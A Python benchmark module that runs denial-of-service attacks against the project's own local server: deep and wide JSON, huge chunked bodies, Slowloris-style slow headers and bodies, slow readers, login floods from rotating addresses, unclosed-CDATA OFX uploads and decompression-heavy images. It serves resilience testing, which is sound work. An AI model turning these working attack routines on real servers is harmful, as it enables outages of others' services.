"""``python -m benchmarks.attacks NAME PORT TOKEN``: attacks the server on this port until the process is ended. The
token is that of a manager; most attacks need none.

The process runs only when nothing else wants its processor, because attackers do not share one with their target. A
flood sends as many requests as the shipped proxy lets one address send.
"""

import asyncio
import base64
import contextlib
import io
import itertools
import json
import os
import secrets
import socket
import sys
from collections.abc import Awaitable, Callable, Iterator
from functools import partial

from PIL import Image

from command_api.images.pictures import MOST_SCANS, scans_of
from infra.security.body_limits import MIB, PICTURE

FLOOD = 100
"""Requests a second."""
UPLOADS = 8
"""Large bodies a second: a line of a gigabit carries no more."""
HELD = 900
"""Connections that are held open; the server closes some of more than 1,000."""
READERS = 200
WAITERS = 150
STAFF = 4
"""Connections of a manager who sends statements or pictures."""
LOGOS = 10
SIDE = 4_000
"""Pixels of a logo."""
RESET, LOGIN, IMAGES = "/api/password/reset", "/api/login", "/api/v1/admin/images"
STATEMENTS, LOGO = "/api/v1/bank-statements", "/api/v1/site/logo"
HEAD = "POST {} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def connected(port: int, address: str = "127.0.0.2", **options: int) -> Connection:
    """``address`` is not that of the visitors whose requests are timed."""
    return await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0), **options)


async def deep_json(port: int) -> None:
    """1.6 KB and 60 KB of nested lists."""
    bodies = (b'{"token": "a", "z": ' + b"[" * depth + b"]" * depth + b"}" for depth in itertools.cycle((800, 30_000)))
    await flood(port, RESET, bodies)


async def wide_json(port: int) -> None:
    """40 KB with as many elements as fit."""
    await flood(port, LOGIN, itertools.repeat(b'{"z": [' + b"{}," * 9_900 + b"{}]}"))


async def login_flood(port: int) -> None:
    """Each for another account, so that each password is checked, from twenty addresses."""
    numbers = itertools.count()
    bodies = (json.dumps({"username": f"user{number}", "password": "x" * 12}).encode() for number in numbers)
    await flood(port, LOGIN, bodies, addresses=20)


async def large_bodies(port: int) -> None:
    """14 MiB each, without a session and without a length."""
    body = b"[" + b"{}," * (PICTURE // 3 - 1) + b"{}]"
    parts = [body[start : start + MIB] for start in range(0, len(body), MIB)]

    async def upload() -> None:
        reader, writer = await connected(port)
        with contextlib.closing(writer):
            writer.write((HEAD.format(IMAGES) + "Transfer-Encoding: chunked\r\n\r\n").encode())
            for part in parts:
                writer.writelines([b"%x\r\n" % len(part), part, b"\r\n"])
                await writer.drain()
            writer.write(b"0\r\n\r\n")
            await reader.readline()

    await every(1 / UPLOADS, upload)


async def half_open_headers(port: int) -> None:
    """Connections that send a byte of their headers every second."""

    async def hold() -> None:
        _, writer = await connected(port)
        with contextlib.closing(writer):
            writer.write(b"GET /menu HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
            await trickle(writer)

    await kept(HELD, hold)


async def slow_bodies(port: int) -> None:
    """Connections that send a byte of a body every second."""

    async def hold() -> None:
        _, writer = await connected(port)
        with contextlib.closing(writer):
            writer.write((HEAD.format(LOGIN) + "Content-Length: 60000\r\n\r\n").encode())
            await trickle(writer)

    await kept(HELD, hold)


async def slow_readers(port: int) -> None:
    """Connections that ask for the menu again and again and read nothing."""

    async def hold() -> None:
        small = socket.socket()
        small.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        small.bind(("127.0.0.2", 0))
        small.setblocking(False)
        await asyncio.get_running_loop().sock_connect(small, ("127.0.0.1", port))
        with contextlib.closing(small):
            while True:
                small.send(b"GET /menu HTTP/1.1\r\nHost: localhost\r\n\r\n")
                await asyncio.sleep(1)

    await kept(READERS, hold)


async def positions_to_come(port: int) -> None:
    """Connections that ask again and again for free tables as of a position that the log does not have."""
    asked = "GET /api/reservations/slots?day=2027-01-15 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"

    async def wait() -> None:
        reader, writer = await connected(port)
        with contextlib.closing(writer):
            writer.write(f"{asked}X-Min-Position: 0.99999999\r\n\r\n".encode())
            await reader.read()
        await asyncio.sleep(WAITERS / FLOOD)

    await kept(WAITERS, wait)


async def statements(port: int, token: str) -> None:
    """OFX whose sections are opened and never closed."""
    ofx = b"OFXHEADER:100\n<OFX>" + b"<![CDATA[" * 22_000
    form = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.ofx"\r\n\r\n' + ofx + b"\r\n--x--\r\n"
    await sent_again(port, token, STAFF, "POST", STATEMENTS, form, "multipart/form-data; boundary=x")


async def pictures(port: int, token: str) -> None:
    """A progressive JPEG with as many scans as are taken. It is sent as the logo, of which there is always one."""
    file = io.BytesIO()
    Image.linear_gradient("L").resize((960, 540)).convert("RGB").save(file, "JPEG", progressive=True)
    content = file.getvalue()
    last, end = content.rindex(b"\xff\xda"), content.rindex(b"\xff\xd9")
    many = content[:end] + content[last:end] * (MOST_SCANS - scans_of(content)) + content[end:]
    await sent_again(port, token, STAFF, "PUT", LOGO, as_logo(many))


async def logos(port: int, token: str) -> None:
    """A large picture of one colour, which is a small file."""
    file = io.BytesIO()
    Image.new("1", (SIDE, SIDE)).save(file, "PNG")
    await sent_again(port, token, LOGOS, "PUT", LOGO, as_logo(file.getvalue()))


def as_logo(picture: bytes) -> bytes:
    return json.dumps({"file_data": base64.b64encode(picture).decode()}).encode()


async def sent_again(
    port: int, token: str, connections: int, method: str, path: str, body: bytes, kind: str = "application/json"
) -> None:
    """The same request over so many connections; each sends it again once it was answered."""
    head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nContent-Type: {kind}\r\n"

    async def send() -> None:
        reader, writer = await connected(port)
        with contextlib.closing(writer):
            writer.write(f"{head}Connection: close\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
            await reader.read()

    await kept(connections, send)


async def flood(port: int, path: str, bodies: Iterator[bytes], addresses: int = 1) -> None:
    """``FLOOD`` requests a second over connections that are kept; a connection that the server closes is replaced."""

    async def send(address: str) -> None:
        reader, writer = await connected(port, address)
        with contextlib.closing(writer):
            while True:
                body = next(bodies)
                writer.write((HEAD.format(path) + f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
                head = (await reader.readuntil(b"\r\n\r\n")).lower()
                await reader.readexactly(int(head.partition(b"content-length:")[2].split()[0]))
                await turns.get()

    turns: asyncio.Queue[None] = asyncio.Queue(FLOOD // 10)

    async def take_turns() -> None:
        while True:
            if not turns.full():
                turns.put_nowait(None)
            await asyncio.sleep(1 / FLOOD)

    # those of an earlier round may be refused for some minutes
    network = f"127.{secrets.randbelow(254) + 1}.{secrets.randbelow(254)}"
    senders = (kept(1, partial(send, f"{network}.{2 + number % addresses}")) for number in range(20))
    await asyncio.gather(take_turns(), *senders)


async def trickle(writer: asyncio.StreamWriter) -> None:
    while not writer.is_closing():
        writer.write(b"1")
        await writer.drain()
        await asyncio.sleep(1)


async def every(seconds: float, do: Callable[[], Awaitable[None]]) -> None:
    """Begin it again and again, whether the one before has ended or not."""
    running: set[asyncio.Task[None]] = set()
    while True:
        task = asyncio.ensure_future(_suffered(do))
        running.add(task)
        task.add_done_callback(running.discard)
        await asyncio.sleep(seconds)


async def kept(number: int, do: Callable[[], Awaitable[None]]) -> None:
    """So many at a time; one that the server ends is begun again."""

    async def again(place: int) -> None:
        await asyncio.sleep(place / number)  # not all at the same moment
        while True:
            await _suffered(do)
            await asyncio.sleep(0.1)

    await asyncio.gather(*(again(place) for place in range(number)))


async def _suffered(do: Callable[[], Awaitable[None]]) -> None:
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):  # the server ended the connection
        await do()


ATTACKS = {
    "deep JSON": deep_json,
    "wide JSON": wide_json,
    "large bodies": large_bodies,
    "half-open headers": half_open_headers,
    "slow bodies": slow_bodies,
    "slow readers": slow_readers,
    "login flood": login_flood,
    "positions to come": positions_to_come,
}
BY_STAFF = {"statements": statements, "pictures": pictures, "logos": logos}


if __name__ == "__main__":
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    name, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    asyncio.run(ATTACKS[name](port) if name in ATTACKS else BY_STAFF[name](port, token))
